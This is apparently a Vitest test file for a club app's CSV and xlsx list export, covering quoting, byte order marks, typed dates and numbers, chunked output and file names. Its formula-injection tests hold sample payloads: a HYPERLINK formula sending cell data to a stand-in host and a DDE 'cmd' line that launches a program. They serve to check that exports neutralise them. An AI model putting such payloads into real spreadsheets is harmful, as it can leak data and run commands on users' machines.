import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import nl from '../../src/i18n/nl';
import { recordsCsv } from '../../src/console/consoleExport';
import { CSV_ROWS_PER_PIECE, csvPieces, exportDay, exportFile, exportFileName, exportNumber, toCsv, toXlsx, type ExportColumn, type ExportTable } from '../../src/common/export/listExport';

/** The lists' exports (issue 14): CSV and xlsx from one module, values typed, headers in the page's language. */
interface Row {
  name: string;
  team: string | null;
  started: string | null;
  score: string;
  players: number;
}

const rows: Row[] = [
  { name: 'de Vries, Sam', team: 'JO11 "Blue"', started: '2026-08-01', score: '7.5', players: 12 },
  { name: 'Anna\nBakker', team: null, started: null, score: '0.0', players: 0 },
];

const columns = (headers: string[]): ExportColumn<Row>[] => [
  { header: headers[0]!, value: (row) => row.name },
  { header: headers[1]!, value: (row) => row.team },
  { header: headers[2]!, value: (row) => exportDay(row.started) },
  { header: headers[3]!, value: (row) => exportNumber(row.score) },
  { header: headers[4]!, value: (row) => row.players },
];

const table = (headers = ['Name', 'Team', 'Started', 'Score', 'Players']): ExportTable<Row> => ({
  title: 'Players',
  columns: columns(headers),
  rows,
  filters: [{ label: 'Season', value: '2026/2027' }],
});

async function readWorkbook(bytes: ArrayBuffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes);
  return workbook;
}

describe('CSV', () => {
  it('starts with the UTF-8 byte order mark and has a header line and a line per row', () => {
    const csv = toCsv(table());
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.slice(1).split('\r\n')[0]).toBe('Name,Team,Started,Score,Players');
  });

  it('quotes fields with commas, quotes and line breaks, doubling the quotes', () => {
    const lines = toCsv(table()).slice(1);
    expect(lines).toContain('"de Vries, Sam","JO11 ""Blue""",2026-08-01,7.5,12\r\n');
    expect(lines).toContain('"Anna\nBakker",,,0,0\r\n');
  });

  it('writes dates as yyyy-MM-dd and numbers with a dot, also in Dutch', () => {
    const csv = toCsv({ ...table(['Naam', 'Team', 'Gestart', 'Score', 'Spelers']), locale: 'nl' });
    expect(csv.slice(1).split('\r\n')[1]).toBe('"de Vries, Sam","JO11 ""Blue""",2026-08-01,7.5,12');
  });

  it('is UTF-8 bytes with the BOM in the downloaded file', async () => {
    const { blob, fileName } = await exportFile('csv', table(['Naam', 'Ploeg', 'Gestart', 'Gemiddelde', 'Spelers']));
    const bytes = new Uint8Array(await blob.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes.slice(3)).split('\r\n')[0]).toBe('Naam,Ploeg,Gestart,Gemiddelde,Spelers');
    expect(blob.type).toBe('text/csv;charset=utf-8');
    expect(fileName).toBe('Players - 2026-2027.csv');
  });
});

describe('formulas in the cells (issue 41)', () => {
  const formulas = ['=HYPERLINK("http://evil.test/?x="&A1,"Click")', '+SUM(1,1)', "-2+3+cmd|' /C calc'!A0", '@SUM(1,1)', '\t=1+1', '\r=1+1'];
  const evil = (name: string): Row => ({ name, team: name, started: null, score: '-2.5', players: -3 });

  it('are written as text: a quote before them, the cell quoted; numbers stay numbers', () => {
    const lines = toCsv({ ...table(), rows: formulas.map(evil) }).slice(1).split('\r\n').slice(1, -1);
    expect(lines).toEqual(formulas.map((formula) => {
      const cell = `"'${formula.replace(/"/g, '""')}"`;
      return `${cell},${cell},,-2.5,-3`;
    }));
  });

  it('are written as text in the console lists\' export too', () => {
    const csv = recordsCsv([{ id: 1, name: '=1+1', details: '@SUM(1,1)', count: -4, nested: { a: 1 } }]);
    expect(csv).toBe(`\uFEFFid,name,details,count,nested\r\n1,"'=1+1","'@SUM(1,1)",-4,"{""a"":1}"\r\n`);
  });

  it('stay text in xlsx (a string cell, never a formula)', async () => {
    const workbook = await readWorkbook(await toXlsx({ ...table(), rows: formulas.slice(0, 4).map(evil) }));
    const sheet = workbook.worksheets[0]!;
    for (let row = 2; row <= 5; row++) {
      expect(sheet.getRow(row).getCell(1).type).toBe(ExcelJS.ValueType.String);
      expect(sheet.getRow(row).getCell(1).value).toBe(formulas[row - 2]);
    }
  });
});

describe('a long list as CSV', () => {
  const many = (n: number): ExportTable<Row> => ({
    ...table(),
    rows: Array.from({ length: n }, (_, i) => ({ name: `Player ${i + 1}`, team: 'JO11', started: '2026-08-01', score: '7.5', players: i })),
  });

  it('is written a thousand rows at a time, never as one string', () => {
    const pieces = [...csvPieces(many(2500))];
    // The header, then 1,000 + 1,000 + 500 rows.
    expect(pieces.map((piece) => piece.split('\r\n').length - 1)).toEqual([1, CSV_ROWS_PER_PIECE, CSV_ROWS_PER_PIECE, 500]);
  });

  it('downloads every row, in order', async () => {
    const { blob } = await exportFile('csv', many(2500));
    const lines = new TextDecoder().decode(new Uint8Array(await blob.arrayBuffer())).split('\r\n');
    expect(lines.length).toBe(2502); // the header, 2,500 rows and the end of the last line
    expect(lines[1]).toBe('Player 1,JO11,2026-08-01,7.5,0');
    expect(lines[2500]).toBe('Player 2500,JO11,2026-08-01,7.5,2499');
  });
});

describe('xlsx', () => {
  it('has Date cells for dates and numbers for numbers, blanks for nothing', async () => {
    const workbook = await readWorkbook(await toXlsx(table()));
    const sheet = workbook.getWorksheet('Players')!;
    expect(sheet.rowCount).toBe(3);
    const first = sheet.getRow(2);
    expect(first.getCell(1).value).toBe('de Vries, Sam');
    expect(first.getCell(3).value).toEqual(new Date(Date.UTC(2026, 7, 1)));
    expect(first.getCell(3).numFmt).toBe('dd/mm/yyyy');
    expect(first.getCell(4).value).toBe(7.5);
    expect(first.getCell(5).value).toBe(12);
    const second = sheet.getRow(3);
    expect(second.getCell(2).value).toBeNull();
    expect(second.getCell(3).value).toBeNull();
    expect(second.getCell(4).value).toBe(0);
    // A bold header row that stays in view while scrolling.
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
  });

  it('has the headers of the page language, the Dutch date format and the filters on their own sheet', async () => {
    const headers = [nl.people.columns.player, nl.people.columns.team, nl.export.started, nl.people.columns.averageScore, nl.people.columns.players];
    const workbook = await readWorkbook(
      await toXlsx({ ...table(headers), title: nl.people.players.title, locale: 'nl', filtersSheet: nl.export.filters, filters: [{ label: nl.export.season, value: '2026/2027' }] }),
    );
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe(nl.people.players.title);
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(headers);
    expect(headers).toContain('Gestart');
    expect(sheet.getRow(2).getCell(3).numFmt).toBe('dd-mm-yyyy');
    const filters = workbook.getWorksheet(nl.export.filters)!;
    expect((filters.getRow(1).values as unknown[]).slice(1)).toEqual(['Seizoen', '2026/2027']);
  });
});

describe('values', () => {
  it('takes an API date-time as the calendar day it shows, and text numbers as numbers', () => {
    expect(exportDay('2026-11-22')).toEqual(new Date(Date.UTC(2026, 10, 22)));
    const stamp = new Date(2026, 10, 22, 23, 30);
    expect(exportDay(stamp.toISOString())).toEqual(new Date(Date.UTC(2026, 10, 22)));
    expect(exportDay(null)).toBeNull();
    expect(exportDay('not a date')).toBeNull();
    expect(exportNumber('7.25')).toBe(7.25);
    expect(exportNumber('')).toBeNull();
    expect(exportNumber(null)).toBeNull();
  });

  it('names the file after the title and the filters, without characters file systems refuse', () => {
    expect(exportFileName('Players', [{ label: 'Season', value: '2026/2027' }], 'xlsx')).toBe('Players - 2026-2027.xlsx');
    expect(exportFileName('Teams', [], 'csv')).toBe('Teams.csv');
  });
});
